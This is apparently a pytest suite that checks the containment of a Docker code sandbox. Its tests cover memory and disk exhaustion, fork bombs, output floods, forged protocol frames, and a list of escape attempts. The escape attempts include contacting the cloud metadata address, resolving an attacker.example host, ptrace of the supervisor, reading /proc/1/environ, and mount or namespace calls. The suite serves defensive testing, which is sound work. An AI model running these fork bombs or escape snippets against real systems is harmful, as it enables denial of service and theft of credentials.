"""Attacks from inside a container: what user code tries, and what must come of it."""

from __future__ import annotations

import builtins
import io
import json
import os
import re
import socket
import threading
import time
from pathlib import Path

import pytest

from sandbox.docker import DockerSandbox
from sandbox.pool import LIBRARIES
from sandbox.types import MIB, Interpreter, Outcome, SandboxSpec
from tests.sandbox.conftest import start_as_spare

pytestmark = pytest.mark.engine


def resident_bytes():
    pages = Path("/proc/self/statm").read_text().split()[1]
    return int(pages) * os.sysconf("SC_PAGE_SIZE")


class TestMemory:
    def test_python_past_the_limit_is_told_the_limit_and_the_peak(self, start):
        sandbox = start(memory_bytes=256 * MIB)
        sandbox.python("x = 1")
        done = sandbox.python("print('before')\na = bytearray(4 << 30)")
        assert (done.outcome, done.output) == (Outcome.OOM, "before\n")
        assert "memory limit of 256 MiB" in done.limit
        assert re.search(r"at most 2[45]\d MiB were in use", done.error.message)
        assert 0.9 * 256 * MIB < done.peak_memory_bytes <= 256 * MIB
        assert (done.interpreter, done.lost_names) == (Interpreter.RESTARTED, ("x",))
        assert sandbox.python("1 + 1").value == "2"

    def test_a_shells_child_past_the_limit_is_told_though_the_shell_survives(self, container):
        done = container.shell("python3 -c 'a = bytearray(4 << 30)'; echo survived")
        assert done.outcome is Outcome.OOM
        assert done.output.endswith("survived\n")
        assert "memory limit of 512 MiB" in done.error.message
        assert container.python("1 + 1").value == "2"

    def test_many_small_pieces_past_the_limit(self, container):
        done = container.python("a = []\nwhile True:\n    a.append('x' * 100_000 + str(len(a)))")
        assert done.outcome is Outcome.OOM
        assert container.python("1 + 1").value == "2"

    def test_user_code_that_ranks_itself_low_is_still_the_one_to_go(self, container):
        code = "open('/proc/self/oom_score_adj', 'w').write('0')\na = bytearray(4 << 30)"
        assert container.python(code).outcome is Outcome.OOM
        assert container.python("1 + 1").value == "2"

    def test_a_neighbour_is_not_harmed(self, start):
        first, second = start(memory_bytes=128 * MIB), start(memory_bytes=128 * MIB)
        code = "import time\nb = bytearray(60 << 20)\ntime.sleep(1)\nlen(b)"
        results = []
        other = threading.Thread(target=lambda: results.append(second.python(code)))
        other.start()
        results.append(first.python(code))
        other.join()
        assert [done.value for done in results] == [str(60 << 20)] * 2


class TestProcesses:
    @pytest.mark.parametrize(
        "bomb",
        ["f(){ f|f& }; f", "f(){ f|f& }; f; sleep 60", "f(){ f|f& }; f; while :; do :; done"],
    )
    def test_a_fork_bomb_meets_the_limit_and_the_next_call_works(self, container, bomb):
        began = time.monotonic()
        done = container.shell(bomb, timeout_s=2)
        assert time.monotonic() - began < 6
        if done.outcome is Outcome.TIMEOUT:  # else it was over before it met the limit
            assert "process limit of 64" in done.limit
        assert container.python("1 + 1").value == "2"
        assert container.shell("echo ok").output.endswith("ok\n")

    def test_a_python_fork_bomb_meets_the_limit(self, container):
        done = container.python("import os\nwhile True:\n    os.fork()", timeout_s=2)
        assert done.outcome in {Outcome.ERROR, Outcome.TIMEOUT}
        assert container.shell("echo ok").output == "ok\n"

    def test_threads_count_too(self, container):
        code = "import threading, time\nfor _ in range(200):\n"
        code += "    threading.Thread(target=time.sleep, args=(1,), daemon=True).start()"
        done = container.python(code)
        assert done.error.type == "RuntimeError"
        assert "process limit of 64" in done.limit


class TestWhatOutlivesItsProcess:
    def test_message_queues_cannot_be_had(self, container):
        code = "import ctypes\nctypes.CDLL(None).msgget(0, 0o1600)"
        assert container.python(code).value == "-1"
        code = "import ctypes\nctypes.CDLL(None).mq_open(b'/q', 0o102, 0o600, 0)"
        assert container.python(code).value == "-1"

    def test_shared_memory_ends_with_its_last_user(self, container):
        code = (
            "import ctypes\nc = ctypes.CDLL(None)\nc.shmat.restype = ctypes.c_void_p\n"
            "i = c.shmget(0, 50 << 20, 0o1600)\nassert i != -1\n"
            "ctypes.memset(c.shmat(i, None, 0), 1, 50 << 20)\nNone"
        )
        assert container.python(code).outcome is Outcome.OK
        done = container.python("import os\nos._exit(0)")
        assert done.interpreter is Interpreter.RESTARTED
        assert container.shell("tail -n +2 /proc/sysvipc/shm | wc -l").output.strip() == "0"


class TestDisk:
    def test_a_full_workspace_is_an_error_of_the_writer(self, start):
        sandbox = start(memory_bytes=256 * MIB)
        done = sandbox.shell("dd if=/dev/zero of=x bs=1M count=180")
        assert done.outcome is Outcome.ERROR
        assert "No space left on device" in done.output
        assert sandbox.python("1 + 1").value == "2"
        assert sandbox.shell("echo out; rm x").output == "out\n"

    def test_a_million_files_meet_the_inode_limit(self, container):
        code = "for i in range(1_000_000):\n    open(f'f{i}', 'w').close()"
        done = container.python(code, timeout_s=60)
        assert (done.error.type, done.outcome) == ("OSError", Outcome.ERROR)
        assert "No space left" in done.error.message
        assert len(done.files) <= 200
        assert len(container.files()) == 10_000
        assert container.python("1 + 1").value == "2"

    def test_output_on_a_full_workspace_is_still_told(self, container):
        container.shell("dd if=/dev/zero of=x bs=1M count=500 2>/dev/null")
        done = container.python("for i in range(20000): print('line', i)")
        assert done.output.startswith("line 0\n")
        assert "line 19999" in done.output
        assert done.output_truncated


class TestOutput:
    def test_a_gigabyte_of_output_costs_the_worker_next_to_nothing(self, container):
        before, peak = resident_bytes(), 0
        done = []
        code = "import os\nb = b'x' * 65536\nfor _ in range(16384): os.write(1, b)"
        call = threading.Thread(target=lambda: done.append(container.python(code, timeout_s=60)))
        call.start()
        while call.is_alive():
            peak = max(peak, resident_bytes())
            time.sleep(0.01)
        call.join()
        assert done[0].outcome is Outcome.OUTPUT_LIMIT
        assert peak - before < 16 * MIB


# What each of these prints must be the refusal, not the treasure.
ESCAPES = {
    "connect out": (
        "import socket\ns = socket.socket()\ns.settimeout(3)\ns.connect(('169.254.169.254', 80))",
        "OSError",
    ),
    "resolve a name": (
        "import socket\nsocket.gethostbyname('leak.attacker.example')",
        "gaierror",
    ),
    "send a packet": (
        "import socket\nsocket.socket(2, 2).sendto(b'x', ('10.0.0.1', 53))",
        "OSError",
    ),
    "write the root": ("open('/usr/x', 'w')", "OSError"),
    "write etc": ("open('/etc/x', 'w')", "OSError"),
    "write var tmp": ("open('/var/tmp/x', 'w')", "OSError"),
    "become root": ("import os\nos.setuid(0)", "PermissionError"),
    "mount": (
        "import ctypes, os\n"
        "if ctypes.CDLL(None, use_errno=True).mount(b'none', b'/tmp', b'tmpfs', 0, 0):\n"
        "    raise PermissionError(os.strerror(ctypes.get_errno()))",
        "PermissionError",
    ),
    "new user namespace": (
        "import ctypes, os\n"
        "if ctypes.CDLL(None, use_errno=True).unshare(0x10000000):\n"
        "    raise PermissionError(os.strerror(ctypes.get_errno()))",
        "PermissionError",
    ),
    "supervisor memory": ("open('/proc/1/mem', 'rb')", "PermissionError"),
    "supervisor descriptors": ("import os\nos.listdir('/proc/1/fd')", "PermissionError"),
    "supervisor descriptor by number": ("open('/proc/1/fd/1', 'w')", "PermissionError"),
    "supervisor environment": ("open('/proc/1/environ').read()", "PermissionError"),
    "supervisor trace": (
        "import ctypes, os\n"
        "if ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0):\n"
        "    raise PermissionError(os.strerror(ctypes.get_errno()))",
        "PermissionError",
    ),
    "kernel memory": ("open('/dev/mem', 'rb')", "FileNotFoundError"),
    "sysrq": ("open('/proc/sysrq-trigger', 'w').write('b')", "OSError"),
    "host name": ("import socket\nsocket.sethostname('x')", "PermissionError"),
    "make a device": ("import os\nos.mknod('/tmp/sda', 0o60600, 0x800)", "PermissionError"),
    "raise a limit": (
        "import resource as r\nr.setrlimit(r.RLIMIT_CORE, (1, 1))",
        "ValueError",
    ),
    "supervisor limits": (
        "import resource as r\nr.prlimit(1, r.RLIMIT_NOFILE, (0, 0))",
        "PermissionError",
    ),
    "supervisor priority": ("import os\nos.setpriority(os.PRIO_PROCESS, 1, 19)", "PermissionError"),
    "everybody's priority": ("import os\nos.setpriority(os.PRIO_USER, 0, 19)", "PermissionError"),
    "supervisor processors": ("import os\nos.sched_setaffinity(1, {0})", "PermissionError"),
    "supervisor scheduler": (
        "import os\nos.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))",
        "PermissionError",
    ),
    "the virtual machine's host": ("import socket\nsocket.socket(40, 1)", "PermissionError"),
    "io_uring": (
        "import ctypes, os\nc = ctypes.CDLL(None, use_errno=True)\n"
        "if c.syscall(425, 1, 0) < 0:\n    raise PermissionError(os.strerror(ctypes.get_errno()))",
        "PermissionError",
    ),
    "own cgroup": ("open('/sys/fs/cgroup/memory/memory.limit_in_bytes', 'w')", "OSError"),
}


@pytest.fixture(scope="class", params=["started", "spare"])
def prison(request, job):
    spec = SandboxSpec(job=job)
    is_spare = request.param == "spare"
    made = start_as_spare(spec, LIBRARIES) if is_spare else DockerSandbox.start(spec)
    yield made
    made.close()


class TestEscapes:
    @pytest.mark.parametrize("attack", ESCAPES)
    def test_user_code_is_refused(self, prison, attack):
        code, expected = ESCAPES[attack]
        done = prison.python(code, timeout_s=5)
        names = done.error and {done.error.type, *_bases(done.error.type)}
        assert done.outcome is Outcome.ERROR
        assert expected in names

    def test_only_the_workspace_and_memory_file_systems_can_be_written(self, prison):
        done = prison.shell("find / -xdev -writable ! -type l 2>/dev/null; cat /proc/mounts")
        writable = {
            line for line in done.output.splitlines() if line.startswith("/") and " " not in line
        }
        assert writable == {"/workspace", "/tmp"}
        mounts = [line.split() for line in done.output.splitlines() if " " in line]
        options = {mount[1]: mount[3].split(",") for mount in mounts}
        assert "ro" in options["/"]
        own = f"uid={prison.python('import os; os.getuid()').value}"
        assert {target for target in options if own in options[target]} == writable

    def test_nothing_of_the_workers_environment_is_visible(self, start, monkeypatch):
        monkeypatch.setenv("OPENAI_API_KEY", "sk-canary-123")
        monkeypatch.setenv("CANARY", "canary-456")
        sandbox = start()
        seen = sandbox.shell("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").output
        assert "canary" not in seen
        assert "canary" not in sandbox.python("import os\ndict(os.environ)").value

    def test_each_sandbox_is_a_user_of_its_own(self, start):
        seen = {start().python("import os; os.getuid()").value for _ in range(3)}
        assert len(seen) == 3
        assert "0" not in seen

    def test_no_set_uid_program_and_no_engine_socket_is_inside(self, prison):
        done = prison.shell(
            "find / -perm /6000 -type f 2>/dev/null; find / -name '*.sock' 2>/dev/null"
        )
        assert done.output == ""

    def test_no_capability_is_held_or_can_be_gained(self, prison):
        status = prison.shell("grep -E '^(Cap|NoNewPrivs|Seccomp:)' /proc/self/status").output
        assert re.findall(r"Cap\w+:\s+(\w+)", status) == ["0" * 16] * 5
        assert re.search(r"NoNewPrivs:\s+1", status)
        assert re.search(r"Seccomp:\s+2", status)

    @pytest.mark.parametrize("number", [1, 2, 3, 9, 15, 17, 18, 19, 20, 34])
    def test_signals_do_not_hurt_the_supervisor(self, prison, number):
        prison.python(f"import os\nfor _ in range(100): os.kill(1, {number})")
        assert prison.python("1 + 1").value == "2"


def _bases(name):
    kind = getattr(builtins, name, None) or getattr(socket, name, None)
    return {base.__name__ for base in kind.__mro__} if kind else set()


FORGED = '{"kind":"result","id":"forged","outcome":"ok"}'


# Stops whatever process comes next, as soon as it is there.
STOPPER = """
import os, signal, time
deadline = time.monotonic() + 20
while time.monotonic() < deadline:
    newest = max(int(name) for name in os.listdir("/proc") if name.isdigit())
    for pid in range(newest + 1, newest + 4):
        try: os.kill(pid, signal.SIGSTOP)
        except OSError: pass
"""
# Writes on in a second thread when its first one has ended, and ignores all that can be ignored.
HEADLESS = """
import ctypes, platform, signal, threading, time
for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)
def work():
    while True:
        open("/workspace/beat", "w").close()
        time.sleep(0.05)
threading.Thread(target=work, daemon=True).start()
time.sleep(0.1)
ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)
"""


class TestSelfHarm:
    """What user code breaks of its own is its own, and can be mended by the next call."""

    def test_a_shell_and_its_children_have_their_turn_after_the_supervisor_and_die_before_it(
        self, container
    ):
        asked = "cat /proc/self/oom_score_adj; nice"
        done = container.shell(f"{asked}; setsid -w sh -c '{asked}'")
        assert done.output.split() == ["1000", "10"] * 2
        code = "import os; open('/proc/self/oom_score_adj').read().strip(), os.nice(0)"
        assert container.python(code).value == "('1000', 10)"

    def test_a_shell_that_is_stopped_before_it_has_begun_holds_nobody_up(self, container):
        container.write_file("stop.py", io.BytesIO(STOPPER.encode()))
        container.shell("setsid python3 stop.py >/dev/null 2>&1 & sleep 0.3")
        for _ in range(4):
            done = container.shell("true", timeout_s=1)
            assert done.outcome in {Outcome.OK, Outcome.TIMEOUT, Outcome.KILLED}
        assert container.shell("pkill -9 python3; true", timeout_s=1).duration_s < 5

    @pytest.mark.parametrize("how", ["exec python3 h.py", "setsid python3 h.py & sleep 30"])
    def test_a_process_whose_first_thread_has_ended_is_ended_all_the_same(self, container, how):
        container.write_file("h.py", io.BytesIO(HEADLESS.encode()))
        done = container.shell(how, timeout_s=1.5)
        assert done.outcome is Outcome.TIMEOUT
        assert done.duration_s < 6
        age = "import os, time; time.sleep(0.5); time.time() - os.stat('beat').st_mtime > 0.4"
        assert container.python(age).value == "True"

    def test_one_whose_first_thread_has_ended_is_counted(self, container):
        container.write_file("h.py", io.BytesIO(HEADLESS.encode()))
        done = container.shell("setsid python3 h.py >/dev/null 2>&1 & sleep 1")
        assert done.background_processes == 1

    def test_each_interpreter_has_random_numbers_of_its_own(self, container):
        draw = "import numpy as np, random; np.random.rand(), random.random()"
        first = container.python(draw).value
        container.python("import os; os._exit(1)")
        assert container.python(draw).value != first

    def test_its_own_limits_and_priority_are_its_own(self, container):
        done = container.python(
            "import os, resource as r\n"
            "r.setrlimit(r.RLIMIT_NOFILE, (200, 200))\nos.setpriority(os.PRIO_PROCESS, 0, 15)\n"
            "os.sched_getaffinity(0) == os.sched_setaffinity(0, os.sched_getaffinity(0))"
        )
        assert done.outcome is Outcome.OK

    def test_a_builtin_that_is_deleted_is_back_for_the_next_call(self, container):
        container.python("import builtins\ndel builtins.compile, builtins.eval, builtins.print")
        assert container.python("print(1)\n1 + 1").value == "2"

    def test_names_of_any_number_and_length_are_told_as_far_as_they_fit(self, container):
        code = "for i in range(600): globals()['n' + ',' * 20_000 + str(i)] = i\n'ok'"
        assert container.python(code).value == "'ok'"
        lost = container.python("import os\nos._exit(1)").lost_names
        assert 0 < len(lost) <= 500

    def test_files_of_any_number_and_name_are_listed_as_far_as_they_fit(self, container):
        code = (
            "import os\n"
            "for d in range(5):\n"
            "    path = '/'.join(['é' * 100] * 8) + str(d)\n"
            "    os.makedirs(path)\n"
            "    for i in range(1000): open(f'{path}/{i}', 'w').close()\n"
        )
        done = container.python(code, timeout_s=60)
        assert 0 < len(done.files) <= 200
        assert 500 < len(container.files()) < 5000

    def test_many_shells_in_the_background_leave_room_for_the_next(self, start):
        sandbox = start(open_files=128)
        for _ in range(40):
            sandbox.shell("for i in $(seq 20000); do echo line $i; done; sleep 60 &")
        assert sandbox.shell("echo ok").output == "ok\n"
        assert sandbox.python("open('x', 'w').close()\n'ok'").value == "'ok'"

    def test_a_workspace_that_is_closed_can_be_opened_again(self, container):
        container.shell("chmod 000 .")
        assert container.shell("echo x > y; chmod 700 /workspace").exit_code == 0
        assert container.shell("echo x > y; pwd").output == "/workspace\n"
        container.python("import os\nos.chmod('/workspace', 0)\nos._exit(1)")
        mend = "import os\nos.chmod('/workspace', 0o700)\nos.chdir('/workspace')"
        assert container.python(mend).outcome is Outcome.OK
        assert container.python("open('x', 'w').close()").files[0].name == "x"


class TestForgery:
    def test_a_frame_that_is_printed_is_output(self, container):
        done = container.python(f"print('''\\n{FORGED}\\n''')")
        assert FORGED in done.output

    def test_writing_to_every_descriptor_forges_nothing(self, container):
        code = (
            "import os\n"
            "for fd in range(3, 200):\n"
            "    try:\n"
            f"        os.write(fd, b'\\n{FORGED}\\n')\n"
            "    except OSError:\n        pass\n"
            "'done'"
        )
        done = container.python(code, execution_id="a")
        assert (done.value, done.interpreter) == ("'done'", Interpreter.KEPT)
        assert container.recall("forged") is None
        assert container.python("1 + 1").value == "2"

    def test_noise_on_the_interpreters_own_channel_costs_the_interpreter(self, container):
        code = (
            "import os\n"
            "for fd in range(3, 200):\n"
            "    try:\n        os.write(fd, b'no frame\\n')\n"
            "    except OSError:\n        pass\n"
        )
        done = container.python(code)
        assert (done.outcome, done.interpreter) == (Outcome.KILLED, Interpreter.RESTARTED)
        assert container.python("1 + 1").value == "2"

    def test_a_forged_answer_counts_for_the_call_that_forged_it_and_no_other(self, container):
        code = (
            "import os, json\n"
            "lie = {'kind': 'done', 'number': 99, 'value': None, 'names': [], 'cpu_s': 0}\n"
            "for fd in range(3, 200):\n"
            "    try:\n"
            "        os.write(fd, (json.dumps(lie) + '\\n').encode())\n"
            "    except OSError:\n        pass\n"
        )
        container.python(code, execution_id="a")
        assert container.python("1 + 1", execution_id="b").value == "2"

    @pytest.mark.parametrize(
        "value",
        [
            {"head": "no base64!", "tail": "", "bytes": 1},
            {"head": "QUFB" * 300_000, "tail": "", "bytes": 1},
            {"head": "", "tail": "", "bytes": float("nan")},
            ["head"],
        ],
        ids=["base64", "size", "nan", "shape"],
    )
    def test_a_forged_answer_of_the_wrong_shape_costs_the_interpreter_and_no_more(
        self, container, value
    ):
        lie = {"kind": "done", "number": 1, "value": value, "names": [], "cpu_s": 0, "error": None}
        code = (
            "import os, time\n"
            f"lie = {json.dumps(json.dumps(lie))}\n"
            "for fd in range(3, 200):\n"
            "    try:\n        os.write(fd, lie.encode() + b'\\n')\n"
            "    except OSError:\n        pass\n"
            "time.sleep(5)"
        )
        done = container.python(code)
        assert (done.outcome, done.interpreter) == (Outcome.KILLED, Interpreter.RESTARTED)
        assert container.python("1 + 1").value == "2"

    def test_user_code_cannot_open_a_link(self, container):
        code = (
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "s.connect('\\0caisson-guest')\n"
            's.sendall(b\'{"kind":"hello","nonce":"x","generation":99}\\n\')\n'
            "s.settimeout(3)\n"
            "try:\n    got = s.recv(100)\nexcept OSError as e:\n    got = b''\n"
            "got"
        )
        assert container.python(code).value in {"b''", None}
        assert container.python("1 + 1").value == "2"

    def test_files_that_are_slow_to_close_cannot_be_left_with_the_supervisor(self, container):
        # A TCP socket with unread data and SO_LINGER blocks its last holder in close().
        code = """
import array, signal, socket, struct
signal.signal(signal.SIGPIPE, signal.SIG_IGN)
keep = []
def slow_to_close():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    c = socket.socket()
    c.connect(listener.getsockname())
    keep.append((listener, listener.accept()[0]))
    c.setblocking(False)
    try:
        while True:
            c.send(b"x" * 65536)
    except BlockingIOError:
        pass
    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    return c
sent = 0
c = slow_to_close()
for _ in range(200):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        s.connect("\0caisson-guest")
        s.sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [c.fileno()]))])
        s.close()
        sent += 1
    except OSError:
        pass
import os
os.close(c.fileno())
print(sent)
"""
        began = time.monotonic()
        done = container.python(code.replace("\0", "\\0"), timeout_s=10)
        assert int(done.output) > 0
        assert container.python("1 + 1").value == "2"
        assert time.monotonic() - began < 12

    def test_a_flood_of_connections_does_not_stop_the_supervisor(self, container):
        code = (
            "import socket\n"
            "for _ in range(3000):\n"
            "    s = socket.socket(socket.AF_UNIX)\n"
            "    s.settimeout(1)\n"
            "    try:\n        s.connect('\\0caisson-guest')\n    except OSError:\n        pass\n"
            "    s.close()\n"
            "'survived'"
        )
        assert container.python(code).value == "'survived'"
        assert container.python("1 + 1").value == "2"
